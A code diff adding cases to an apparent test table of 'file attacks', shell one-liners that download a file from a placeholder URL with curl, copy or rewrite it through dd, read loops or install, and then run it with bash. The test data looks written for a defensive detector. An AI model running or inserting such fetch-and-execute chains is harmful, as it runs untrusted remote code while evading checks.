@@ -63,6 +63,15 @@ const Attack kFileAttacks[] = {
                                 "cp -r @D/d @D/c; bash @D/c/f"),
     FILE_CASE("what another left",
               "curl -s @URL | { dd count=0 status=none; cat > @D/f; }; bash @D/f"),
+    FILE_CASE("a loop over a file",
+              "curl -s -o @D/f @URL; { dd count=0 status=none; cat > @D/g; } < @D/f; bash @D/g"),
+    FILE_CASE(
+        "a loop over a file, of another one",
+        "curl -s -o @D/f @URL; curl -s -o @D/l @DATA_URL; while read -r l; do cat @D/f > @D/g; "
+        "done < @D/l; bash @D/g"),
+    FILE_CASE("a loop over a file that fetches",
+              "curl -s -o @D/l @DATA_URL; while read -r l; do curl -s -o @D/g @URL; done < @D/l; "
+              "bash @D/g"),
     FILE_CASE("a loop of echo",
               "curl -s @URL | while read -r l; do /bin/echo \"$l\" >> @D/f; done; bash @D/f"),
     FILE_CASE("install", "curl -s -o @D/f @URL; install -m 755 @D/f @D/g; bash @D/g"),
